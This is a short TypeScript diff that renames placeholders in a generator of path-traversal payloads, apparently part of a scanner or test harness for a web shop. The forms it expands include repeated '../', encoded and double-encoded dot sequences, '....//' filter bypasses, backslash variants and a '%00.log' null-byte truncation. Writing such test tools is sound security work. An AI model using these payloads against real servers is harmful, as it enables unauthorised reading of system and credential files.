@@ -15,9 +15,9 @@ const FORMS: readonly string[] = [
   'file://localhost/{file}',
   '{up2e}{file}',
   '{up2f}{file}',
-  '{updouble}{file}',
-  '{upback}{file}',
-  '{updots}{file}',
+  '{up-double}{file}',
+  '{up-back}{file}',
+  '{up-dots}{file}',
   'shop/{up}{file}',
   'shop/../{up}{file}',
   '/{file}%00.log',
@@ -37,9 +37,9 @@ const FORMS: readonly string[] = [
 function write(form: string, path: string): string {
   const deep = 12;
   return form
-    .replace('{updouble}', '%252e%252e%252f'.repeat(deep))
-    .replace('{updots}', '....//'.repeat(deep))
-    .replace('{upback}', '..\\'.repeat(deep))
+    .replace('{up-double}', '%252e%252e%252f'.repeat(deep))
+    .replace('{up-dots}', '....//'.repeat(deep))
+    .replace('{up-back}', '..\\'.repeat(deep))
     .replace('{up2e}', '%2e%2e/'.repeat(deep))
     .replace('{up2f}', '..%2f'.repeat(deep))
     .replace('{up}', '../'.repeat(deep))
